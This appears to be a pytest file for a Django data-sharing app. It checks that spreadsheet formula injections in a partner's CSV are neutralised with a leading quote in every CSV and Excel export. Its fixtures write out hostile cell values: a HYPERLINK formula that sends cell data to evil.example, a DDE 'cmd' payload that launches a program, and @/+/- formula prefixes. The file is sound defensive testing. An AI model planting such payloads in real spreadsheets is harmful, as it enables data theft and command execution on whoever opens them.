"""A partner's file can hold cells a spreadsheet would run (``=HYPERLINK(…)`` sending data away, ``=cmd|…`` starting a
program): they import as text, and every download of them (the rows behind a figure, the rows behind a hot spot, the
import's rejected rows, the heat map in Excel) writes them with a quote in front, so they open as text."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from safer.geography import services as geography_services
from safer.intelligence import partner_services
from safer.intelligence.importers.partner import Mapping

pytestmark = pytest.mark.django_db(transaction=True)

UPLANDS_LSOA = "E01025980"  # Oadby and Wigston 009D
# A category is at most 40 characters in the monthly counts, so the link is a short one.
HOSTILE = ['=HYPERLINK("http://evil.example/"&A3)', "=cmd|' /C calc'!A0", "@SUM(1)", "+SUM(1)", "-2+3"]
SOURCE_NAME = '=HYPERLINK("http://evil.example/","Council ASB")'


@pytest.fixture
def hostile_import(partnership, other_partnership, council, analyst, tmp_path: Path) -> SimpleNamespace:
    geography_services.import_bundled(["E07000135", "E07000134"])
    source = partner_services.create_source(
        partnership=partnership, name=SOURCE_NAME, counted="one ASB report", agency=council, actor=analyst
    )
    source = partner_services.save_mapping(
        source=source,
        mapping=Mapping(
            date="Date reported", location="lsoa", columns={"lsoa": "LSOA", "category": "Type", "reference": "Ref"}
        ),
    )
    out = io.StringIO()
    writer = csv.writer(out)  # the partner's file, as their system wrote it
    writer.writerow(["Ref", "Date reported", "Type", "LSOA"])
    for i, category in enumerate(HOSTILE, start=1):
        writer.writerow([f"A{i}", f"{i:02d}/01/2022", category, UPLANDS_LSOA])
    writer.writerow(["@A9", "=NOW()", "Noise", UPLANDS_LSOA])  # rejected: not a date
    path = tmp_path / "asb.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    outcome = partner_services.import_partner_file(
        partnership=partnership, source=source, path=path, name=path.name, actor=analyst, today=date(2026, 11, 23)
    )
    assert outcome.refused == "" and outcome.run.rows_imported == len(HOSTILE) and outcome.run.rows_rejected == 1
    return SimpleNamespace(run=outcome.run, slug=f"partner-{source.pk}")


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_the_rows_behind_a_figure_download_with_formulas_as_text(client, sign_in, analyst, hostile_import):
    sign_in(client, analyst)
    url = reverse("intelligence:cell-rows", args=[hostile_import.slug, 2022, 1]) + "?format=csv"
    rows = read_csv(client.get(url).content)
    assert sorted(r["category"] for r in rows) == sorted("'" + v for v in HOSTILE)
    assert rows[0]["file"] == "asb.csv" and rows[0]["lsoa"] == UPLANDS_LSOA


def test_the_rows_behind_a_hot_spot_download_with_formulas_as_text(client, sign_in, analyst, hostile_import):
    sign_in(client, analyst)
    url = reverse("intelligence:hotspot-rows") + (
        f"?dataset={hostile_import.slug}&start=2022-01&end=2022-01&lsoa={UPLANDS_LSOA}&format=csv"
    )
    rows = read_csv(client.get(url).content)
    assert sorted(r["category"] for r in rows) == sorted("'" + v for v in HOSTILE)


def test_the_rejected_rows_report_downloads_with_formulas_as_text(client, sign_in, analyst, hostile_import):
    sign_in(client, analyst)
    response = client.get(reverse("intelligence:import-run", args=[hostile_import.run.pk]) + "?format=csv")
    [rejected] = read_csv(response.content)
    assert (rejected["line"], rejected["column"], rejected["value"]) == ("7", "Date reported", "'=NOW()")


def test_the_heat_map_in_excel_writes_a_partner_sources_name_as_text(client, sign_in, analyst, hostile_import):
    sign_in(client, analyst)
    response = client.get(reverse("intelligence:heat-map") + f"?dataset={hostile_import.slug}&format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    [note] = [cell for cell in cells if isinstance(cell.value, str) and "evil.example" in cell.value]
    assert note.data_type == "s" and note.value.startswith("'" + SOURCE_NAME)
